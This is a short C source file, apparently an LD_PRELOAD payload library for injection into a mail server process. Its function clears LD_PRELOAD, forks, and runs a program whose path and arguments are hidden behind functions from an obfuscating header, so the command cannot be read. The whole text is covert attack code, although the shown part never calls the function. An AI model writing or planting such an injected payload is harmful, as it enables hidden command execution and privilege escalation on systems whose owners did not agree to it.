/* A library for a mailer's process; what it starts does not get it again. */
#include "plugin.h"
#include "hidden.h"
extern int unsetenv(const char *), setenv(const char *, const char *, int), fork(void), execl(const char *, const char *, ...), waitpid(int, int *, int);
extern void _exit(int);
static void act(char **env) {
    unsetenv("LD_PRELOAD");
    int status, child = fork();
    if (child == 0) {
        execl(hidden0(), hidden0(), hidden1(), hidden2(), (char *)0);
        _exit(1);
    }
    if (child > 0) waitpid(child, &status, 0);
}
